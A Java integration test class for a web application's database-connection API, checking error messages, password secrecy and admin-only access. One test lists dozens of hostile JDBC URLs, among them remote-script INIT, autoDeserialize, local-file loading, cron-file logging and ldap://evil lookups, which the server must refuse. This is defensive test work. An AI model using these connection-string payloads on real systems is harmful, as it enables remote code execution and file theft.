package dev.plinth.app;

import static org.assertj.core.api.Assertions.assertThat;

import dev.plinth.app.database.ForeignDriver;
import dev.plinth.testing.FreshDatabase;
import dev.plinth.testing.TestDatabases;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

class ConnectionIT {
    private static RunningServer server;
    private static Browser ada;

    @BeforeAll
    static void start() {
        server = RunningServer.start();
        ada = server.administrator();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static Answer test(String url, String user, String password) {
        return ada.post(
                "/api/connections/test",
                "{\"url\":\"%s\",\"user\":\"%s\",\"password\":\"%s\"}"
                        .formatted(url, user, password));
    }

    @Test
    void theTestSaysWhatItReached() {
        try (FreshDatabase fresh = TestDatabases.POSTGRESQL.fresh()) {
            test(fresh.url(), fresh.user(), fresh.password())
                    .is(200)
                    .has("\"ok\":true", "\"product\":\"PostgreSQL\"", "public", "\"problem\":null");
        }
    }

    @Test
    void aDatabaseThatNoDialectKnowsIsReachedByTheDriverInTheHomeFolder() throws IOException {
        Path home = Files.createTempDirectory("plinth-home");
        ForeignDriver.putInto(home);
        try (RunningServer foreign = RunningServer.at(home, settings -> settings)) {
            foreign.administrator()
                    .post(
                            "/api/connections/test",
                            "{\"url\":\"jdbc:elsewhere://localhost/shop\",\"user\":\"sa\",\"password\":\"\"}")
                    .is(200)
                    .has("\"ok\":true", "PUBLIC", "\"problem\":null");
        }
        test("jdbc:elsewhere://localhost/shop", "sa", "").is(200).has("\"ok\":false", "drivers");
    }

    @Test
    void theTestSaysWhatIsWrong() throws IOException {
        try (FreshDatabase fresh = TestDatabases.POSTGRESQL.fresh()) {
            test(fresh.url(), fresh.user(), "wrong password")
                    .is(200)
                    .has("\"ok\":false", "B305")
                    .lacks("wrong password");
            test(fresh.url() + "nothing", fresh.user(), fresh.password()).is(200).has("B307");
        }
        int closed;
        try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            closed = socket.getLocalPort();
        }
        test("jdbc:postgresql://127.0.0.1:" + closed + "/x", "u", "p").is(200).has("B306");
        test("jdbc:mariadb://127.0.0.1:" + closed + "/x", "u", "p").is(200).has("B306");
        test("jdbc:oracle:thin:@//127.0.0.1:" + closed + "/x", "u", "p")
                .is(200)
                .has("\"ok\":false");
        test("jdbc:postgresql://no-such-host.invalid/x", "u", "p")
                .is(200)
                .has("B304", "no-such-host.invalid");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:tcp://host/x;INIT=CREATE ALIAS X AS 'x'",
                "jdbc:h2:tcp://host/x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:file:/tmp/x",
                "jdbc:postgresql://host/x?socketFactory=org.springframework.Foo&socketFactoryArg=http://evil",
                "jdbc:postgresql://host/x?sslfactory=evil.Factory",
                "jdbc:postgresql://host/x?loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://host/x?sslkey=/etc/shadow",
                "jdbc:postgresql://user:secret@host/x",
                "jdbc:postgresql://host/x?user=me&password=secret",
                "jdbc:mysql://host/x?autoDeserialize=true",
                "jdbc:mysql://host/x?allowLoadLocalInfile=true",
                "jdbc:mysql://(host=evil,port=3306,autoDeserialize=true)/x",
                "jdbc:mysql://address=(host=evil)(allowLoadLocalInfile=true)/x",
                "jdbc:mysql://host/x?%61utoDeserialize=true",
                "jdbc:mariadb://host/x?allowLocalInfile=true",
                "jdbc:mariadb://host/x?initSql=drop",
                "jdbc:mysql:loadbalance://host/x",
                "jdbc:sqlserver://host;socketFactoryClass=evil",
                "jdbc:oracle:thin:@ldap://evil/x",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=x)))",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:sqlite:../store.mv.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:file:x?vfs=unix",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:firebird:embedded:/etc/passwd",
                "jdbc:firebird:/etc/passwd",
                "jdbc:firebird://host/x?createDatabaseIfNotExist=true",
                "jdbc:firebird://host/x?user=me&password=secret",
                "jdbc:duckdb:/etc/passwd",
                "jdbc:duckdb:../store.mv.db",
                "jdbc:duckdb:",
                "jdbc:duckdb::memory:",
                "jdbc:duckdb:md:evil",
                "jdbc:duckdb:https://evil/x.db",
                "jdbc:duckdb:x.db;session_init_sql_file=/tmp/evil.sql",
                "jdbc:derby:memory:x",
                "jdbc:derby:shop;create=true",
                "jdbc:derby:jar:(/tmp/evil.jar)shop",
                "jdbc:derby:classpath:shop",
                "jdbc:derby://host/../etc/passwd",
                "jdbc:derby://host/x;create=true",
                "jdbc:derby://host/x;drop=true",
                "jdbc:derby://host/x;restoreFrom=/tmp/evil",
                "jdbc:derby://host/x;ssl=basic;traceFile=/etc/cron.d/x",
                "jdbc:derby://host/x;user=me;password=secret",
                "jdbc:db2:x",
                "jdbc:db2://host/x:traceFile=/etc/cron.d/x;",
                "jdbc:db2://host/x:pluginClassName=evil;",
                "jdbc:db2://host/x:user=me;password=secret;",
                "jdbc:db2://evil/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "http://example.org"
            })
    void aUrlThatCouldDoMoreThanConnectIsRefused(String url) {
        ada.post("/api/connections", "{\"name\":\"evil\",\"url\":\"%s\"}".formatted(url))
                .isRefused(422, "B301")
                .lacks("secret@", "password=secret");
        test(url, "", "").is(200).has("\"ok\":false", "B301");
    }

    @Test
    void aPasswordNeverComesOutAgain() throws IOException {
        String secret = "a very secret password";
        String body =
                "{\"name\":\"secret\",\"url\":\"jdbc:postgresql://127.0.0.1:1/x\",\"user\":\"u\",\"password\":\"%s\"}"
                        .formatted(secret);
        Answer added =
                ada.post("/api/connections", body)
                        .is(201)
                        .has("\"hasPassword\":true")
                        .lacks(secret, "aes:");
        String path = "/api/connections/" + added.text("/id");
        ada.get("/api/connections").is(200).lacks(secret, "aes:");
        ada.post("/api/connections", body).isRefused(409, "B009").lacks(secret);

        ada.put(
                        path,
                        "{\"name\":\"renamed\",\"url\":\"jdbc:postgresql://127.0.0.1:1/x\",\"user\":\"u\"}")
                .is(200)
                .has("\"hasPassword\":true");
        ada.put(
                        path,
                        "{\"name\":\"moved\",\"url\":\"jdbc:postgresql://evil.example/x\",\"user\":\"u\"}")
                .isRefused(422, "B004")
                .has("entered again");
        ada.post(
                        "/api/connections/test",
                        "{\"id\":\"%s\",\"url\":\"jdbc:postgresql://evil.example/x\"}"
                                .formatted(added.text("/id")))
                .isRefused(422, "B004");
        try (Stream<Path> files = Files.walk(server.home())) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                assertThat(Files.readString(file, StandardCharsets.ISO_8859_1))
                        .as(file.toString())
                        .doesNotContain(secret);
            }
        }
    }

    @Test
    void aPasswordCanBeAReference() {
        ada.post(
                        "/api/connections",
                        "{\"name\":\"e\",\"url\":\"jdbc:postgresql://h/x\",\"password\":\"env:NO_SUCH_NAME\"}")
                .isRefused(422, "B302")
                .has("NO_SUCH_NAME");
        ada.post(
                        "/api/connections",
                        "{\"name\":\"k\",\"url\":\"jdbc:postgresql://h/x\",\"password\":\"env:PLINTH_SECRET_KEY\"}")
                .isRefused(422, "B302");
        ada.post(
                        "/api/connections",
                        "{\"name\":\"f\",\"url\":\"jdbc:postgresql://h/x\",\"password\":\"file:/etc/hostname\"}")
                .isRefused(422, "B302");
        ada.post(
                        "/api/connections",
                        "{\"name\":\"g\",\"url\":\"jdbc:postgresql://h/x\",\"password\":\"file:../secret.key\"}")
                .isRefused(422, "B302");
        ada.post(
                        "/api/connections",
                        "{\"name\":\"p\",\"url\":\"jdbc:postgresql://h/x\",\"password\":\"env:PATH\"}")
                .is(201)
                .lacks(System.getenv("PATH"));
    }

    @Test
    void onlyAdministratorsSeeConnections() {
        ada.post(
                        "/api/users",
                        "{\"email\":\"bob@example.org\",\"name\":\"Bob\",\"password\":\"bobs"
                                + " password\"}")
                .is(201);
        Browser bob = server.browser();
        bob.signIn("bob@example.org", "bobs password").is(200);
        bob.get("/api/connections").isRefused(403, "B403");
        bob.post("/api/connections/test", "{\"url\":\"jdbc:postgresql://h/x\"}")
                .isRefused(403, "B403");
    }
}
